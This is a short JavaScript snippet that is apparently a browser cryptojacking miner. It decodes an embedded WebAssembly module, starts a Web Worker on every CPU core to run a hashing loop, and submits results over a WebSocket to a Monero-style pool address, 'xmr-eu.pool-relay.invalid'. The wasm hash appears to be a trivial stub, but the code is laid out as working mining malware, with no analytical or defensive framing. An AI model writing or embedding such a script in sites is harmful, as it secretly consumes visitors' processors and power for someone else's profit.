var wasm = 'AGFzbQEAAAABBgFgAX8BfwMCAQAHCAEEaGFzaAAACgcBBQAgAAs=';
var src = 'var m;onmessage=function(e){if(e.data.w){WebAssembly.instantiate(e.data.w).then(function(r){m=r.instance;postMessage({r:1})});return}' +
  'var n=e.data.n,best=0;for(var i=0;i<5e6;i++){var h=m.exports.hash(n+i);if(h>best)best=h}postMessage({h:best,n:n})}';
var bytes = Uint8Array.from(atob(wasm), function (c) { return c.charCodeAt(0); });
var url = URL.createObjectURL(new Blob([src]));
var pool = new WebSocket('wss://xmr-eu.pool-relay.invalid/');
for (var t = 0; t < navigator.hardwareConcurrency; t++) {
  (function (id) {
    var w = new Worker(url), n = id * 5e6;
    w.onmessage = function (e) {
      if (e.data.h && pool.readyState == 1) pool.send(JSON.stringify({ method: 'submit', params: { id: id, nonce: e.data.n, result: e.data.h } }));
      n += 4e7;
      w.postMessage({ n: n });
    };
    w.postMessage({ w: bytes });
  })(t);
}
